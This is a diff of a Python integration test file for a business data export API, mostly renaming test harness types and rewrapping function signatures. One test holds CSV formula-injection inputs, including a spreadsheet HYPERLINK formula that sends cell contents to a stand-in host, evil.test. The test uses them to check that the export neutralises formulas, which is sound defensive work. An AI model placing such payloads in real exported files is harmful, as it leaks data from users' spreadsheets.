@@ -7,19 +7,21 @@ from datetime import timedelta
 from jsonschema import Draft202012Validator
 
 from tests.integration.api.full_visit import ADDRESS, NOW, a_visit_with_all_there_is, window
-from tests.integration.api.harness import Desk, Json, Reader
+from tests.integration.api.harness import ApiClient, ApiHarness, Json
 
 DETAILED = ("visits", "invoices", "subscriptions", "contracts")
 
 
-async def table(reader: Reader) -> list[Json]:
+async def table(reader: ApiClient) -> list[Json]:
     """The rows of the CSV."""
     answer = await reader.ask("export", format="csv")
     assert answer.status_code == 200, answer.text
     return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
 
 
-async def test_the_export_is_every_record_as_its_own_page_answers_it(desk: Desk, reader: Reader) -> None:
+async def test_the_export_is_every_record_as_its_own_page_answers_it(
+    desk: ApiHarness, reader: ApiClient
+) -> None:
     await a_visit_with_all_there_is(desk)
     await desk.say("visit.booked", "v2", window=window(NOW + timedelta(days=1)), contract_id="c1")
     await desk.say("visit.booked", "v3")
@@ -47,7 +49,7 @@ async def test_the_export_is_every_record_as_its_own_page_answers_it(desk: Desk,
     assert found["business"] == {"name": "Blue Pools", "slug": "blue"}
 
 
-async def test_it_says_what_its_schema_says_and_no_more(desk: Desk, reader: Reader) -> None:
+async def test_it_says_what_its_schema_says_and_no_more(desk: ApiHarness, reader: ApiClient) -> None:
     await a_visit_with_all_there_is(desk)
     await desk.say("visit.booked", "v2", window=window(NOW + timedelta(days=1)))
     described = desk.described()
@@ -63,7 +65,7 @@ async def test_it_says_what_its_schema_says_and_no_more(desk: Desk, reader: Read
     Draft202012Validator(shape).validate(await reader.get("export"))
 
 
-async def test_a_long_history_is_whole_and_read_part_by_part(desk: Desk, reader: Reader) -> None:
+async def test_a_long_history_is_whole_and_read_part_by_part(desk: ApiHarness, reader: ApiClient) -> None:
     """Of 250 visits and invoices each none is missing, and no question asks for more than one part."""
     log: list[Json] = []
     for number in range(250):
@@ -86,7 +88,9 @@ async def test_a_long_history_is_whole_and_read_part_by_part(desk: Desk, reader:
     assert len(await table(reader)) == 250
 
 
-async def test_nothing_of_others_and_nothing_out_of_sight_is_in_it(desk: Desk, reader: Reader) -> None:
+async def test_nothing_of_others_and_nothing_out_of_sight_is_in_it(
+    desk: ApiHarness, reader: ApiClient
+) -> None:
     await a_visit_with_all_there_is(desk)
     await desk.say("proof.uploaded", "p9", text="never published")
     await desk.say("customer.registered", customer="cus_2", name="Bob", emails=["bob@mail.test"])
@@ -102,7 +106,7 @@ async def test_nothing_of_others_and_nothing_out_of_sight_is_in_it(desk: Desk, r
             assert text not in answer.text
 
 
-async def test_a_table_of_invoices_and_payments(desk: Desk, reader: Reader) -> None:
+async def test_a_table_of_invoices_and_payments(desk: ApiHarness, reader: ApiClient) -> None:
     await a_visit_with_all_there_is(desk)
     await desk.say("payment.refunded", "y2")
 
@@ -127,7 +131,7 @@ async def test_a_table_of_invoices_and_payments(desk: Desk, reader: Reader) -> N
     assert (failed["status"], failed["note"]) == ("failed", "declined")
 
 
-async def test_the_table_holds_no_formula(desk: Desk, reader: Reader) -> None:
+async def test_the_table_holds_no_formula(desk: ApiHarness, reader: ApiClient) -> None:
     link = '=HYPERLINK("https://evil.test?"&A1;"Pay")'
     await desk.say("invoice.issued", "-i1", number="@SUM(1)", memo=f"{link}\r\n{link}", total="-5.00")
     await desk.say("payment.failed", "y1", invoice_id="-i1", reason="+1\n-1")
@@ -139,7 +143,7 @@ async def test_the_table_holds_no_formula(desk: Desk, reader: Reader) -> None:
     assert payment["note"] == "'+1\n-1"
 
 
-async def test_it_is_a_download_with_an_etag_for_the_signed_in(desk: Desk, reader: Reader) -> None:
+async def test_it_is_a_download_with_an_etag_for_the_signed_in(desk: ApiHarness, reader: ApiClient) -> None:
     for form, kind, name in (
         ("json", "application/json", "blue-export.json"),
         ("csv", "text/csv; charset=utf-8", "blue-invoices-and-payments.csv"),
